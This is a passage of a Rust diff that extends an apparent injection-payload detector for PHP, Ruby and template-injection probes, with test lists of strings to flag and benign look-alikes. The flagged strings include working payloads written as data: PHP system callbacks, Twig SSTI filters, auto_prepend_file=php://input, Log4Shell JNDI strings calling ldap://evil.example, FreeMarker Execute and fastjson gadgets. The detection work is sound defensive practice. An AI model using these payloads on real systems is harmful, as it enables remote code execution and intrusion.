+        let args = rest[filter.len()..].trim_ascii_start();
+        let Some(args) = args.strip_prefix(b"(") else { continue };
+        let args = args.trim_ascii_start();
+        let Some(&q) = args.first().filter(|b| matches!(b, b'\'' | b'"')) else { continue };
+        let name = &args[1..args[1..].iter().position(|&b| b == q).map_or(1, |p| p + 1)];
+        if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Ruby running a command without parentheses, as ERB and `#{}` read it: `system 'id'`,
+/// `exec "id"`, `spawn 'id'`, `%x{id}`, `%x(id)`.
+fn ruby_command(inner: &[u8]) -> bool {
+    let inner = inner.trim_ascii();
+    if starts_with_ci(inner, b"%x{") || starts_with_ci(inner, b"%x(") || find_ci(inner, b" %x{", 0).is_some() {
+        return true;
+    }
+    let word = &inner[..inner.iter().take_while(|&&b| is_word(b)).count()];
+    let rest = inner[word.len()..].trim_ascii_start();
+    [&b"system"[..], b"exec", b"spawn", b"eval"].iter().any(|w| word.eq_ignore_ascii_case(w))
+        && word.len() < inner.len()
+        && matches!(rest.first(), Some(b'\'' | b'"' | b'`' | b'%'))
+}
+
+/// A template probe's arithmetic: numbers and operators only, multiplying (`7*7`, `'7'*7`).
 fn arithmetic(inner: &[u8]) -> bool {
     let inner = inner.trim_ascii();
+    // A probe multiplies (`{{7*7}}`); `{{ 10-20 }}% off` and `#{12-34}` are text.
     inner.iter().any(u8::is_ascii_digit)
-        && inner.iter().any(|b| matches!(b, b'*' | b'+' | b'-' | b'/' | b'%'))
+        && inner.contains(&b'*')
         && inner.iter().all(|&b| b.is_ascii_digit() || b" *+-/%()'\".".contains(&b))
 }
 
@@ -1261,6 +1503,33 @@ mod tests {
             "<%=7*7%>",
             "#{7*7}",
             "a[constructor][prototype][onerror]=a",
+            // The review's.
+            "call_user_func_array('system', array('id'));",
+            "preg_replace_callback('/x/', 'system', 'id')",
+            "system ('id');",
+            "exec (\"id\", $o)",
+            "include 'uploads/x.jpg';",
+            "require_once $_GET['p'];",
+            "{{['id']|filter('system')}}",
+            "{{[\"id\",\"\"]|sort(\"passthru\")}}",
+            "-d allow_url_include=1 -d auto_prepend_file=php://input",
+            "\u{ad}d allow_url_include=1",
+            "precision=14\nauto_prepend_file=php://input",
+            " auto_prepend_file=x",
+            "this.constructor.constructor('return process')()",
+            "for(;;){}",
+            "process['mainModule']",
+            "process[req.query.a]",
+            "process[mainModule",
+            // Tester s1's.
+            "${j${foo:-n}di:ldap://evil.example/a}",
+            "${jndi${nagli:-:}ldap://evil.example/a}",
+            "${j${:-n}di:ldap://x}",
+            "<%= system 'id' %>",
+            "<%= %x{id} %>",
+            "#{system 'id'}",
+            "(\"freemarker.template.\"+\"utility.Execute\")?new()(\"id\")",
+            "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\"}",
             "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
             "allow_url_include=1",
             "auto_prepend_file = php://input",
@@ -1343,6 +1612,36 @@ mod tests {
             "my_upload.json",
             "#{color}",
             "<% end %>",
+            // The review's.
+            "[upload a file](https://docs.example.com/upload)",
+            "See [the system requirements](https://example.com/req) first",
+            "Read [how to include images](https://x.example/help)",
+            "Select 'File' (top left) and then 'Export'",
+            "Click \"Include\" (bottom right)",
+            "The (file) (PDF, max 5MB)",
+            "Dear $name (customer 1234), your order shipped",
+            "Total: $total (incl. VAT)",
+            "Hello $FirstName (via app)",
+            "Apple ($AAPL) (up 3%)",
+            "[$AAPL](https://finance.example/AAPL)",
+            "The price (in $USD) (excluding tax) is 20",
+            "process[status]=open",
+            "at java.io.FileInputStream.<init>(FileInputStream.java:138)",
+            "at java.lang.Runtime.exec(Runtime.java:620)",
+            "at org.apache.catalina.core.ApplicationDispatcher.include(ApplicationDispatcher.java:549)",
+            "mail.smtp.host=smtp.example.com",
+            "session.timeout = 30",
+            "please include 'urgent' in the subject",
+            "the runtime. of x.runtime is y",
+            // Tester s1's.
+            "see system(3) and chmod(1)",
+            "call exec() to replace the process",
+            "add_passthru(dev) and subprocess.Popen(args) and os.getenv('HOME')",
+            "posix_fallocate(fd, 0, len)",
+            "{{ 10-20 }}% off",
+            "Ticket #{12-34}",
+            "java.nio.charset.StandardCharsets.UTF_8",
+            "Hello ${user.name}",
         ] {
             assert!(!found(text, 1), "{text}");
         }
@@ -1369,6 +1668,11 @@ mod tests {
 
     #[test]
     fn uploaded_scripts_and_session_files_are_found() {
+        // The file names a server obeys, however Windows or a server trims them (the review:
+        // `.htaccess.` passed where `shell.php.` did not).
+        for name in [".htaccess", ".htaccess.", "a/.HTACCESS..", "wp-config. php", "web.config "] {
+            assert!(super::super::traversal::upload_name(name.as_bytes(), 1).is_some(), "{name}");
+        }
         for name in [
             "a.php",
             "a.php..",
@@ -1392,7 +1696,33 @@ mod tests {
     fn hostile_values_cost_linear_time() {
         // Each scan is bounded per occurrence; 64 KiB of each opener must not take quadratic time
         // (a regression shows as this test running for minutes, not as an assertion).
-        for unit in ["$a[", "(", "\"x\".", "${", "<?", "{{", "#{", "O:1:\"", "while(", "((((", "$_", "java.", "'."] {
+        for unit in [
+            "$a[",
+            "(",
+            "\"x\".",
+            "${",
+            "<?",
+            "{{",
+            "#{",
+            "O:1:\"",
+            "while(",
+            "((((",
+            "$_",
+            "java.",
+            "'.",
+            // The review's: each had read to the value's end from every opener.
+            "x.runtime ",
+            "processbuilder.a ",
+            "$/*",
+            "'./*",
+            "$a//",
+            "$#",
+            "*/(",
+            "'.#",
+            "*/.'",
+            "include '",
+            "{{[0]|filter('",
+        ] {
             let v = unit.repeat(65536 / unit.len());
             let _ = check(v.as_bytes(), Shape::of(v.as_bytes()), true, 4);
         }
